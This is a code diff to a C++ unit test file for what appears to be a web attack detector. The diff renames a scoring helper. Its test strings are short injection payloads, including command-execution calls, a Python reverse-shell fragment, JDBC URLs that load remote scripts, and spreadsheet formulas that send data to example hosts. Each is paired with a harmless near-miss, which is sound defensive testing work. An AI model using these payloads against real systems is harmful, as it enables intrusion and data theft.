@@ -1,4 +1,5 @@
 #include "inspect/code/code.h"
+#include "inspect/code/points_of.h"
 
 #include <gtest/gtest.h>
 
@@ -9,12 +10,6 @@
 
 namespace onesec::inspect {
 namespace {
-
-std::uint32_t points(std::string_view text) {
-  Reasons out;
-  inspect_code(text, ascii::Alphabet(text), out);
-  return out.points(Attack::Code);
-}
 
 TEST(Code, ProgramsOfServers) {
   for (const std::string_view text : {"<?php echo 1;",
@@ -46,7 +41,7 @@ TEST(Code, ProgramsOfServers) {
                                       "__import__('os')",
                                       "os.system('id')",
                                       R"x(<!--#exec cmd="id"-->)x"}) {
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   }
 }
 TEST(Code, ProseAndOtherPrograms) {
@@ -72,7 +67,7 @@ TEST(Code, ProseAndOtherPrograms) {
                                       "x = y",
                                       "total(a)",
                                       "New function to set keys"}) {
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
   }
 }
 TEST(Code, UploadsThatTheServerWouldRun) {
@@ -106,21 +101,21 @@ TEST(Code, UploadsWhoseNamesLeadElsewhere) {
   EXPECT_LT(of_name("a.phpbb", Attack::Code), kThreshold);
 }
 TEST(Code, ACallThatIsCutOff) {
-  EXPECT_GE(points("base64_decode("), kThreshold);
-  EXPECT_LT(points("see base64_decode("), kThreshold);
-  EXPECT_LT(points("date("), kThreshold);
+  EXPECT_GE(points_of_code("base64_decode("), kThreshold);
+  EXPECT_LT(points_of_code("see base64_decode("), kThreshold);
+  EXPECT_LT(points_of_code("date("), kThreshold);
 }
 TEST(Code, PhpWithoutLetters) {
   for (const std::string_view text : {"(0^0).(0^0)", "((1).(2)^(3).(4))|(5)", "(~(9)).(~(8)).(7)"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"(2^3)*(4^5)", "(12).(34)", "(030) 12.34 | 56", "(1).(2)^3", "(0)^(0)"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, FunctionsByNamesInVariables) {
   for (const std::string_view text : {"$a->$name(7)", "A::$name(7)", "$__[$_[1]](7)"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"$a->name (7)", "A::$name", "cost: $a[$b[1]] (or so)"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, NamesOfPrototypes) {
   const auto of = [](std::string_view text, bool is_name) {
@@ -151,51 +146,53 @@ TEST(Code, NamesOfPrototypes) {
     EXPECT_LT(of(text, false), kThreshold) << text;
 }
 TEST(Code, AnAttackAndItsNearMiss) {
-  EXPECT_GE(points("T(java.lang.Runtime).getRuntime().exec('id')"), kThreshold);
-  EXPECT_LT(points("T (temperature) and R (runtime)"), kThreshold);
-  EXPECT_GE(points("{${phpinfo()}}"), kThreshold);
-  EXPECT_LT(points("{phpinfo}"), kThreshold);
-  EXPECT_GE(points("assert($_REQUEST['x'])"), kThreshold);
-  EXPECT_LT(points("assert (your rights)"), kThreshold);
-  EXPECT_GE(points("class.module.classLoader.resources.context"), kThreshold);
-  EXPECT_LT(points("class.module.name"), kThreshold);
-  EXPECT_GE(points("<!--#include virtual=\"/srv/a\"-->"), kThreshold);
-  EXPECT_LT(points("<!-- include this -->"), kThreshold);
-  EXPECT_GE(points("__import__('os').popen('id')"), kThreshold);
-  EXPECT_LT(points("__tablename__ is users"), kThreshold);
-  EXPECT_GE(points("global.process.mainModule"), kThreshold);
-  EXPECT_GE(points("throw new Exception('id'.execute().text)"), kThreshold);
-  EXPECT_LT(points("rows['a'].execute(); cursor.execute('x')"), kThreshold);
-  EXPECT_LT(points("the global process of peace"), kThreshold);
+  EXPECT_GE(points_of_code("T(java.lang.Runtime).getRuntime().exec('id')"), kThreshold);
+  EXPECT_LT(points_of_code("T (temperature) and R (runtime)"), kThreshold);
+  EXPECT_GE(points_of_code("{${phpinfo()}}"), kThreshold);
+  EXPECT_LT(points_of_code("{phpinfo}"), kThreshold);
+  EXPECT_GE(points_of_code("assert($_REQUEST['x'])"), kThreshold);
+  EXPECT_LT(points_of_code("assert (your rights)"), kThreshold);
+  EXPECT_GE(points_of_code("class.module.classLoader.resources.context"), kThreshold);
+  EXPECT_LT(points_of_code("class.module.name"), kThreshold);
+  EXPECT_GE(points_of_code("<!--#include virtual=\"/srv/a\"-->"), kThreshold);
+  EXPECT_LT(points_of_code("<!-- include this -->"), kThreshold);
+  EXPECT_GE(points_of_code("__import__('os').popen('id')"), kThreshold);
+  EXPECT_LT(points_of_code("__tablename__ is users"), kThreshold);
+  EXPECT_GE(points_of_code("global.process.mainModule"), kThreshold);
+  EXPECT_GE(points_of_code("throw new Exception('id'.execute().text)"), kThreshold);
+  EXPECT_LT(points_of_code("rows['a'].execute(); cursor.execute('x')"), kThreshold);
+  EXPECT_LT(points_of_code("the global process of peace"), kThreshold);
 }
 TEST(Code, LinesOfAStackTraceAreNoCalls) {
-  EXPECT_LT(points("x\n\tat java.base/java.lang.Thread.run(Thread.java:829)\n\tat a.b.C.m(Native Method)"), kThreshold);
-  EXPECT_LT(points("at java.net.URLClassLoader.findClass(URLClassLoader.java:382)"), kThreshold);
-  EXPECT_GE(points("java.lang.Thread.run(x)"), kThreshold);
-  EXPECT_GE(points("new java.lang.ProcessBuilder('.java:1')"), kThreshold) << "an argument isn't a place in a file";
-  EXPECT_GE(points("new java.lang.ProcessBuilder(x.java)"), kThreshold);
-  EXPECT_LT(points("function add(a, b) { return a + b; }"), kThreshold) << "declared, and called by nobody";
+  EXPECT_LT(points_of_code("x\n\tat java.base/java.lang.Thread.run(Thread.java:829)\n\tat a.b.C.m(Native Method)"),
+            kThreshold);
+  EXPECT_LT(points_of_code("at java.net.URLClassLoader.findClass(URLClassLoader.java:382)"), kThreshold);
+  EXPECT_GE(points_of_code("java.lang.Thread.run(x)"), kThreshold);
+  EXPECT_GE(points_of_code("new java.lang.ProcessBuilder('.java:1')"), kThreshold)
+      << "an argument isn't a place in a file";
+  EXPECT_GE(points_of_code("new java.lang.ProcessBuilder(x.java)"), kThreshold);
+  EXPECT_LT(points_of_code("function add(a, b) { return a + b; }"), kThreshold) << "declared, and called by nobody";
 }
 TEST(Code, FieldsOfFacesAndStruts) {
   for (const std::string_view name : {"javax.faces.ViewState", "jakarta.faces.partial.ajax", "com.sun.faces.token",
                                       "org.apache.struts.taglib.html.TOKEN", "org.apache.myfaces.tobago.page"})
-    EXPECT_LT(points(name), kThreshold) << name;
-  EXPECT_GE(points("javax.faces.FactoryFinder@x"), kThreshold);
-  EXPECT_GE(points("org.apache.struts.util.Chain"), kThreshold);
+    EXPECT_LT(points_of_code(name), kThreshold) << name;
+  EXPECT_GE(points_of_code("javax.faces.FactoryFinder@x"), kThreshold);
+  EXPECT_GE(points_of_code("org.apache.struts.util.Chain"), kThreshold);
 }
 TEST(Code, NounsWithAPluralAreNoCalls) {
   for (const std::string_view text :
        {"File(s)", "Date(s)", "System(TM)", "count(orders)", "id,count()", "Stat(es)", "mail()"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
   for (const std::string_view text :
        {"system(whoami)", "eval(x)", "file('/srv/a')", "date(\"Y\");", "exec(id)", "unpack()", "file/**/(a)"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, LinesOfSource) {
   for (const std::string_view text : {"require('fs')", "require(\"path\");", "const a = require('b');"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"require('child_process')", "require('fs').readFileSync('/srv/a')"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, CallsThatAreTheWholeValue) {
   for (const std::string_view text : {"'.passthru('w').'",
@@ -228,7 +225,7 @@ TEST(Code, CallsThatAreTheWholeValue) {
                                       "compile('a','b','exec')",
                                       "module.constructor._load('a')",
                                       "(~\x8f\x97\x8f\x96)();"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"use os.system('w') in a sentence",
                                       "call include('/srv/a') first",
                                       "print(total)",
@@ -262,31 +259,31 @@ TEST(Code, CallsThatAreTheWholeValue) {
                                       "~\xce\xb1\xce\xb2\xce\xb3(x)",
                                       "page._load(a)",
                                       "file.read() fails"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, EdgeSideIncludes) {
-  EXPECT_GE(points("<!--esi $(HTTP_COOKIE)-->"), kThreshold);
-  EXPECT_LT(points("<!--a comment-->"), kThreshold);
+  EXPECT_GE(points_of_code("<!--esi $(HTTP_COOKIE)-->"), kThreshold);
+  EXPECT_LT(points_of_code("<!--a comment-->"), kThreshold);
   for (const std::string_view text :
        {"<esi:debug/>", "<esi:vars>$(A)</esi:vars>", "a<esi:try >", "<ESI:assign name=\"a\"/>"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"<esi:things>", "esi:include", "<esi:try", "<desi:try>"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, FormulasThatStartOrFetch) {
   for (const std::string_view text :
        {"=ms|'/x y'!B1", "@SUM(2)*ms|' /x y'!B1", "=WEBSERVICE(\"https://x.example/\"&B1)", "=DDE(\"ms\";\"y\";\"z\")",
         "=IF(B1,IMPORTXML(CONCAT(\"https://x.example/\",B1),\"//a\"))",
         "=HYPERLINK(\"https://x.example/?a=\"&B1,\"b\")"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text :
        {"=SUM(A1:A9)", "=HYPERLINK(\"https://a.example\",\"a\")", "=A1|B1", "ms|'x'!B1 is a reference", "-call (me)",
         "=IF(A1=\"x\";\"it's|'so'\";B1)", "@webservice (new)"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, WorkingsOfPythonByNames) {
-  EXPECT_GE(points("a.__init__.__globals__"), kThreshold);
-  EXPECT_LT(points("super().__init__(); super().__init__()"), kThreshold);
+  EXPECT_GE(points_of_code("a.__init__.__globals__"), kThreshold);
+  EXPECT_LT(points_of_code("super().__init__(); super().__init__()"), kThreshold);
 }
 
 TEST(Code, LanguagesThatReachTheHost) {
@@ -295,39 +292,39 @@ TEST(Code, LanguagesThatReachTheHost) {
         "\n@Grab(group='a',module='b')", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)",
         "[33:system('touch x')]", "f(v) os.execute('id')", "Process.Start(\"cmd.exe\",\"/c id\")",
         "CreateObject(\"\"WScript.Shell\"\").Exec(1)"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text : {"Class.forName(\"org.h2.Driver\")", "grab (a) drink", "import os; os.getcwd()",
                                       "ratio [33:system (a)]", "process.start the engine"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 
 TEST(Code, WhatProgramsOfPhpAreToldToCall) {
   for (const std::string_view text :
        {"shell_exec", "/index/\\think\\app/invokefunction", "\\a\\B::c()->d('system')", "mail[#post_render][]",
         "die(md5(a_test));", "include('http://h.example/a.txt');"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text :
        {"issue [#process] tracker", "a[#markup] is open", "shell_exec is off", "C:/\\a\\b", "\\server\\share/a",
         "tags[#blue]", "[#process me", "include('a.inc');", "print(md5)"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 TEST(Code, AddressesOfDatabases) {
   for (const std::string_view text :
        {"jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'", "jdbc:mysql://h.example/a?autoDeserialize=true",
         "jdbc:postgresql://h.example/a?socketFactory=org.B&socketFactoryArg=c"})
-    EXPECT_GE(points(text), kThreshold) << text;
+    EXPECT_GE(points_of_code(text), kThreshold) << text;
   for (const std::string_view text :
        {"jdbc:mysql://h.example/a?useSSL=true", "jdbc:h2:mem:a;MODE=MySQL", "a jdbc:h2:x runscript from"})
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
 }
 
 TEST(Code, StringsAndNamesThatAreNoCalls) {
   for (const std::string_view text : {"sum by (host) (count_over_time({job=\"syslog\"} |~ \"(?i)failed|denied\" [5m]))",
                                       "console.error: Cannot read properties of undefined (reading 'length')"}) {
-    EXPECT_LT(points(text), kThreshold) << text;
+    EXPECT_LT(points_of_code(text), kThreshold) << text;
   }
-  EXPECT_GE(points("console['log'] (1)"), kThreshold);
-  EXPECT_GE(points("\"system\"('id')"), kThreshold);
+  EXPECT_GE(points_of_code("console['log'] (1)"), kThreshold);
+  EXPECT_GE(points_of_code("\"system\"('id')"), kThreshold);
 }
 
 }  // namespace
